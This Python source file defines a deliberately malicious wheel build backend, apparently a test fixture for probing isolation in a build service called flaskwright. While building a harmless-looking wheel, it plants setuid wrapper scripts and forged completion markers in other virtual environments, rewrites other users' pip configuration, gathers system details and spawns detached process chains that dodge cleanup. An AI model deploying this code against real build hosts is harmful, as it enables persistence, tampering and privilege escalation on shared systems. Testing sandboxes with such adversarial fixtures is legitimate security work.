"""A build backend of a stranger: it tries to stay, to be believed, and to be run by root."""

from __future__ import annotations

import json
import os
import time
import zipfile
from contextlib import suppress
from pathlib import Path

NAME = "evil-1.0-py3-none-any.whl"
PACKAGE = "evil/__init__.py"
VENV = Path(os.environ.get("VIRTUAL_ENV") or "/nowhere")
OWNED = "/run/owned-by-a-build"
LASTING = 40.0  # seconds that its processes go on


def build_wheel(
    directory: str, config_settings: object = None, metadata_directory: object = None
) -> str:
    """Make a harmless wheel, and do everything else on the side."""
    import surroundings

    venvs = [path for path in Path("/srv").glob("*/venvs/*") if (path / "bin").is_dir()]
    for venv in venvs:
        plant(venv)
    told = {**surroundings.report(), **look_around()}
    for venv in venvs:
        stay(venv)
    with zipfile.ZipFile(Path(directory) / NAME, "w") as wheel:
        wheel.writestr(PACKAGE, f"TOLD = {json.dumps(told)!r}\n")
        wheel.writestr(
            "evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
        )
        wheel.writestr(
            "evil-1.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        wheel.writestr("evil-1.0.dist-info/RECORD", "")
    return NAME


def plant(venv: Path) -> None:
    """Lay marks of an environment that is complete, with a Python of our own; rights and notes."""
    program = venv / "bin" / "owned"
    program.write_text(f'#!/bin/sh\nid -u >> {OWNED}.$(id -u)\nexec /usr/bin/python3 "$@"\n')
    program.chmod(0o777)
    with suppress(OSError):
        program.chmod(0o6777)
    mark = {"python": str(program), "version": "Python 3", "requirements": [], "packages": {}}
    (venv / ".complete").write_text(json.dumps(mark))
    (venv / ".planted").write_text(json.dumps(mark))
    with suppress(OSError):
        os.setxattr(program, "user.note", b"of a stranger")
    with suppress(OSError):
        os.mkfifo(venv / "bin" / "pipe")
        (venv / "bin" / "pipe").unlink()
    venv.chmod(0o777)


def look_around() -> dict[str, object]:
    """What of others can be seen: trees, caches, what is remembered; what could be planted."""
    seen = [
        str(path) for place in ("/srv", "/var/cache/flaskwright") for path in Path(place).glob("*")
    ]
    for home in Path("/var/cache/flaskwright").glob("*"):
        with suppress(OSError):
            (home / ".config" / "pip").mkdir(parents=True, exist_ok=True)
            (home / ".config" / "pip" / "pip.conf").write_text("[global]\nno-index = true\n")
            seen.append(f"planted in {home}")
    with suppress(OSError):
        seen += [f"/var/lib/flaskwright/{name}" for name in os.listdir("/var/lib/flaskwright")]
    return {"seen": sorted(seen), "user": os.getuid(), "groups": os.getgroups()}


def stay(venv: Path) -> None:
    """Leave a chain of processes, each gone before a list of them could be killed."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            for stream in range(3):  # pip would wait for it
                os.dup2(os.open(os.devnull, os.O_RDWR), stream)
            _chain(venv, time.monotonic() + LASTING)
            os._exit(0)


def _chain(venv: Path, end: float) -> None:
    while time.monotonic() < end:
        with suppress(OSError):
            (venv / ".planted").replace(venv / ".complete")
        with suppress(OSError):
            (venv / "bin" / "late").write_text("written after the end\n")
        if os.fork():
            os._exit(0)
